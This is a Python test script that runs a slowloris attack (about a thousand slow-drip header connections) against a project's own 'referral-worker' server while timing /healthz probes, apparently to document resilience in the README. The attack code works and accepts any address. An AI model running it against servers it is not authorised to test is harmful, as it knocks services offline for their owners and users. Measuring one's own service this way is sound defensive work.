#!/usr/bin/env python3
"""Slowloris against a running referral-worker, measuring /healthz meanwhile.

Opens CONNECTIONS sockets that send a request's headers a line at a time
(one every DRIP seconds) and reopens each as soon as the server closes it;
meanwhile GETs /healthz on a fresh connection every 100 ms and reports the
answers and their latencies. The slowloris runs in a child process of its
own, so that its thousand sockets and reconnects never delay the probes'
event loop: a probe's latency is the server's, not this script's. Used once to record README "Security"'s figure:

    scripts/slowloris.py 127.0.0.1:8080 --connections 1024 --seconds 60
"""

import argparse
import asyncio
import multiprocessing
import statistics
import time


async def loris(host, port, drip, stop, opened):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        opened[0] += 1
        try:
            writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
            await writer.drain()
            while not stop.is_set():
                await asyncio.sleep(drip)
                writer.write(b"X-a: b\r\n")
                await writer.drain()
                if reader.at_eof():
                    break
        except (OSError, ConnectionError):
            pass
        finally:
            writer.close()


async def probe(host, port):
    started = time.monotonic()
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 5)
        writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        await writer.drain()
        line = await asyncio.wait_for(reader.readline(), 5)
        writer.close()
        ok = line.startswith(b"HTTP/1.1 200")
    except (OSError, asyncio.TimeoutError, ConnectionError):
        ok = False
    return ok, (time.monotonic() - started) * 1000


async def attack(host, port, connections, drip, seconds, opened_total):
    stop = asyncio.Event()
    opened = [0]
    tasks = [asyncio.create_task(loris(host, port, drip, stop, opened)) for _ in range(connections)]
    await asyncio.sleep(seconds)
    stop.set()
    for t in tasks:
        t.cancel()
    opened_total.value = opened[0]


def attacker(host, port, connections, drip, seconds, opened_total):
    asyncio.run(attack(host, port, connections, drip, seconds, opened_total))


async def main():
    p = argparse.ArgumentParser()
    p.add_argument("address")
    p.add_argument("--connections", type=int, default=1024)
    p.add_argument("--seconds", type=float, default=60)
    p.add_argument("--drip", type=float, default=5)
    a = p.parse_args()
    host, port = a.address.rsplit(":", 1)
    opened = multiprocessing.Value("q", 0)
    child = multiprocessing.Process(
        target=attacker,
        args=(host, int(port), a.connections, a.drip, a.seconds + 2, opened),
    )
    child.start()
    await asyncio.sleep(2)
    results = []
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        results.append(await probe(host, int(port)))
        await asyncio.sleep(0.1)
    child.join()
    lat = sorted(ms for ok, ms in results if ok)
    failed = sum(1 for ok, _ in results if not ok)
    print(f"slowloris sockets: {a.connections} (opened {opened.value} in all)")
    print(f"/healthz probes: {len(results)}, failed: {failed}")
    if lat:
        p99 = lat[min(len(lat) - 1, int(len(lat) * 0.99))]
        print(f"latency ms: median {statistics.median(lat):.1f}, p99 {p99:.1f}, max {lat[-1]:.1f}")


if __name__ == "__main__":
    asyncio.run(main())
